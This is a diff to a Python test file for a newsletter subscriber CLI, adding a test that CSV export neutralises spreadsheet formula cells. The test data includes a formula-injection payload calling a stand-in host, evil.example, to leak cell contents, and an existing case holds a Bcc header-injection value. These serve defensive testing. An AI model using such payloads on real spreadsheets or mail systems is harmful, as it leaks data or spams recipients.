@@ -3,6 +3,8 @@ SQLite file in a temporary folder, and the add use case it calls."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from collections.abc import Callable
 from pathlib import Path
@@ -17,6 +19,7 @@ from digest.subscribers import new_subscriber
 from .test_subscribers import (  # with the cli_at and run fixtures
     SAMPLE_CSV,
     SAMPLE_ROWS,
+    VALID,
     Run,
     cli_at_fixture,  # noqa: F401
     import_sample,
@@ -64,7 +67,10 @@ def test_add_stores_sections_in_canonical_spelling_and_order(run: Run, store: St
     [
         (["not-an-email"], "error: invalid email 'not-an-email': "),
         (["", "--name", "X"], "error: email is empty\n"),
-        (["ana@example.com", "--sections", "Bogus"], "error: unknown section 'Bogus'\n"),
+        (
+            ["ana@example.com", "--sections", "Bogus"],
+            f"error: unknown section 'Bogus' (the sections are: {VALID})\n",
+        ),
         (
             ["ana@example.com", "--name", "Ana\r\nBcc: evil@example.com"],
             "error: name contains a line break or control character\n",
@@ -223,6 +229,31 @@ def test_export_then_import_into_a_fresh_database_round_trips(
     again = tmp_path / "again.csv"
     assert fresh("subscribers", "export", str(again)).exit_code == 0
     assert again.read_bytes() == out.read_bytes()
+
+
+def test_export_neutralises_cells_a_spreadsheet_would_run(
+    run: Run, cli_at: Callable[[str], Run], tmp_path: Path
+) -> None:
+    """A name like =HYPERLINK(...) becomes text in a spreadsheet, and still round-trips."""
+    names = {
+        "f1@example.com": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "f2@example.com": "+1 555 0100",
+        "f3@example.com": "-Minus",
+        "f4@example.com": "@SUM(A1:A2)",
+        "-dash@example.com": "Plain",
+    }
+    for email, name in names.items():
+        assert run("subscribers", "add", "--name", name, "--", email).exit_code == 0
+    out = tmp_path / "export.csv"
+    assert run("subscribers", "export", str(out)).exit_code == 0
+    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))[1:]
+    for row in rows:
+        for cell in row[:2]:
+            assert not cell.startswith(("=", "+", "-", "@")), row
+    fresh = cli_at(f"sqlite:///{tmp_path / 'fresh.db'}")
+    assert fresh("subscribers", "import", str(out)).exit_code == 0
+    copied = json.loads(fresh("subscribers", "list", "--json").stdout)
+    assert {s["email"]: s["name"] for s in copied} == names
 
 
 def test_add_keeps_what_was_not_given(store: Store, config: Config) -> None:
